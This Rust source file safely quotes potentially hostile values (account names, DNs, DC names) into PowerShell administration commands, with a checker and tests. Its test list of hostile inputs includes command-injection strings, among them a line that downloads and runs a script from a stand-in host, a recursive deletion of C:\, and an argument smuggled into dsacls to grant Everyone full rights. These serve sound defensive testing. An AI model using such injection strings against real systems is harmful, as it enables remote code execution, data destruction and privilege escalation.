//! The fix commands administrators paste into an elevated PowerShell. Their
//! values (connector and account names, DNs, DC names) come from evidence
//! that may be hostile, so a value never reaches a command unquoted.
//!
//! Templates name their values with placeholders (`<account>`, `<DC>`, …)
//! that must sit inside single quotes, where PowerShell expands nothing.
//! Filling one doubles every single quote of the value (PowerShell also
//! takes the typographic quotes ‘ ’ ‚ ‛ as single quotes). A value PowerShell
//! cannot carry safely is refused and the command left out, with a note: a
//! control character (it would break the line, or the terminal), or a
//! double quote (Windows PowerShell 5.1 passes native arguments such as
//! dsacls's with broken double-quote escaping, so one could add arguments).

/// Why a command was left out.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Unsafe {
    pub placeholder: &'static str,
}

/// One value inside a single-quoted PowerShell string, or why not.
pub fn quoted(value: &str) -> Option<String> {
    if value.chars().any(|c| c.is_control() || c == '"' || matches!(c, '\u{201C}' | '\u{201D}' | '\u{201E}')) {
        return None;
    }
    let mut out = String::with_capacity(value.len() + 2);
    for c in value.chars() {
        if matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}') {
            out.push(c);
        }
        out.push(c);
    }
    Some(out)
}

/// Fills `template`'s placeholders with quoted values. Each placeholder the
/// template uses must be in `values`; the template keeps them inside single
/// quotes (a test checks every template of the knowledge tables).
pub fn fill(template: &str, values: &[(&'static str, &str)]) -> Result<String, Unsafe> {
    let mut out = template.to_owned();
    for (placeholder, value) in values {
        if !out.contains(placeholder) {
            continue;
        }
        let q = quoted(value).ok_or(Unsafe { placeholder })?;
        out = out.replace(placeholder, &q);
    }
    Ok(out)
}

/// Fills every template; those that cannot be filled safely are left out
/// and the returned note says why (to append to the fix's summary).
pub fn fill_all(templates: &[&str], values: &[(&'static str, &str)]) -> (Vec<String>, Option<String>) {
    let mut left_out = Vec::new();
    let mut out = Vec::new();
    for t in templates {
        match fill(t, values) {
            Ok(c) => out.push(c),
            Err(u) => {
                if !left_out.contains(&u.placeholder) {
                    left_out.push(u.placeholder);
                }
            }
        }
    }
    let note = (!left_out.is_empty()).then(|| {
        format!(
            " (Some commands are left out: the value of {} holds a quote or control character that cannot be pasted safely into PowerShell; check the value in the export.)",
            left_out.join(", ")
        )
    });
    (out, note)
}

/// Checks that a command line is safe to paste: outside single-quoted
/// strings only plain words (letters, digits, `-`, `/`, `.`, `:`, `,`,
/// `=`, `_`, `\`, spaces, and the `$true`/`$false`/`$null` constants, and
/// the `@{…}`/`[byte[]]` forms the static templates use), and every quote
/// closed. Tests run every printed command through it.
pub fn is_safe_powershell(line: &str) -> bool {
    let mut chars = line.chars().peekable();
    let mut outside = String::new();
    while let Some(c) = chars.next() {
        if matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}') {
            // Inside a single-quoted string: '' is a quote; any other quote ends it.
            loop {
                match chars.next() {
                    None => return false,
                    Some('\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}') => {
                        if chars
                            .peek()
                            .is_some_and(|n| matches!(n, '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}'))
                        {
                            chars.next();
                        } else {
                            break;
                        }
                    }
                    Some(c) if c.is_control() => return false,
                    Some(_) => {}
                }
            }
            outside.push(' ');
        } else {
            outside.push(c);
        }
    }
    // The constants and fixed forms our static templates use.
    let outside = ["$true", "$false", "$null", "@{logonHours=[byte[]](,255*21)}"]
        .iter()
        .fold(outside, |acc, fixed| acc.replace(fixed, " "));
    outside.chars().all(|c| c.is_ascii_alphanumeric() || " -/.:,=_\\*%".contains(c))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Names a compromised server could put in its export.
    pub const HOSTILE: &[&str] = &[
        "x'; iex (iwr https://evil.example/a.ps1); '",
        "x’; Remove-Item C:\\ -Recurse; ‘",
        "DC=$(Invoke-Expression 'calc'),DC=corp",
        "a\" /G \"Everyone:GA",
        "line\r\nStart-Process calc",
        "`$(calc)`",
        "esc\x1b[2J",
    ];

    #[test]
    fn quoting_doubles_every_kind_of_single_quote() {
        assert_eq!(quoted("O'Brien").as_deref(), Some("O''Brien"));
        assert_eq!(quoted("a’b").as_deref(), Some("a’’b"));
        assert_eq!(quoted("DC=$(x),DC=y").as_deref(), Some("DC=$(x),DC=y"));
        assert_eq!(quoted("a\"b"), None);
        assert_eq!(quoted("a\nb"), None);
    }

    #[test]
    fn filled_commands_stay_safe_or_are_left_out() {
        let t = "Set-ADSyncPasswordHashSyncPermissions -ADConnectorAccountName '<account>' -ADConnectorAccountDomain '<account domain>'";
        for name in HOSTILE {
            match fill(t, &[("<account>", name), ("<account domain>", "fabrikam.com")]) {
                Ok(c) => assert!(is_safe_powershell(&c), "{c}"),
                Err(u) => assert_eq!(u.placeholder, "<account>"),
            }
        }
        let (cmds, note) =
            fill_all(&[t, "Restart-Service ADSync"], &[("<account>", "a\"b"), ("<account domain>", "x")]);
        assert_eq!(cmds, ["Restart-Service ADSync"]);
        assert!(note.unwrap().contains("<account>"));
    }

    #[test]
    fn the_checker_catches_what_runs_code() {
        assert!(is_safe_powershell("Restart-Service ADSync"));
        assert!(is_safe_powershell("dsacls 'DC=x,DC=y' /G 'X\\u:CA;Replicating Directory Changes'"));
        assert!(is_safe_powershell("Set-ADUser 'a''b' -PasswordNeverExpires $true"));
        assert!(!is_safe_powershell("Set-ADUser a; calc"));
        assert!(!is_safe_powershell("Set-ADUser 'a'; calc; 'b'"));
        assert!(!is_safe_powershell("Set-ADUser \"$(calc)\""));
        assert!(!is_safe_powershell("Set-ADUser 'unclosed"));
        assert!(!is_safe_powershell("Set-ADUser 'a’; calc; ‘b'"));
    }
}

/// Every command template of the knowledge tables, filled with hostile
/// values: each printed line is either safe to paste or left out.
#[cfg(test)]
mod templates {
    use super::tests::HOSTILE;
    use super::*;
    use crate::knowledge::{bind_codes, sync_errors};

    const PLACEHOLDERS: &[&str] = &[
        "<account principal>",
        "<account domain>",
        "<account>",
        "<domain root DN>",
        "<domain>",
        "<DC>",
        "<sid>",
        "<right>",
        "<principal>",
    ];

    fn all_templates() -> Vec<&'static str> {
        let mut t: Vec<&str> = sync_errors::CLASSES.iter().flat_map(|c| c.commands.iter().copied()).collect();
        t.extend(bind_codes::CODES.iter().flat_map(|c| c.commands.iter().copied()));
        t.extend(crate::checks::replication_rights::WINDOWS_GRANT);
        t.push(crate::checks::replication_rights::SAMBA_GRANT);
        t.extend(crate::checks::credentials::TROUBLE_COMMANDS);
        t.extend(crate::checks::reachability::LOCATE_COMMANDS);
        t.extend(crate::checks::reachability::REACH_COMMANDS);
        t.push(crate::checks::exposure::REMOVE_PRINCIPAL);
        t
    }

    #[test]
    fn every_template_keeps_its_values_inside_single_quotes() {
        for t in all_templates() {
            for value in HOSTILE.iter().chain(&["fabrikam.com", "O'Brien", "DC=emea,DC=fabrikam,DC=com"]) {
                let values: Vec<(&'static str, &str)> = PLACEHOLDERS.iter().map(|p| (*p, *value)).collect();
                if let Ok(line) = fill(t, &values) {
                    assert!(is_safe_powershell(&line), "{t} with {value:?} gives {line}");
                }
            }
        }
    }
}
